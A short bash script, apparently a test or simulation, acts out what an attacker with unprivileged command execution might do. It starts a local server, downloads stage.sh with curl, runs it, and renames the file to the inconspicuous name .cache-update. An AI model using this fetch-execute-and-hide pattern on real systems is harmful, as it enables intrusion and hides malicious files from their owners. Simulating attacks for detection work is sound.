#!/bin/bash
# What somebody does who found a way to run commands as an unprivileged user.
perl server.pl &
server=$!
until [ -e ready ]; do sleep 0.05; done
curl -q -s -o stage.sh http://127.0.0.1:8080/stage.sh
chmod +x stage.sh
./stage.sh
mv stage.sh .cache-update
rm -f ready
kill $server
wait
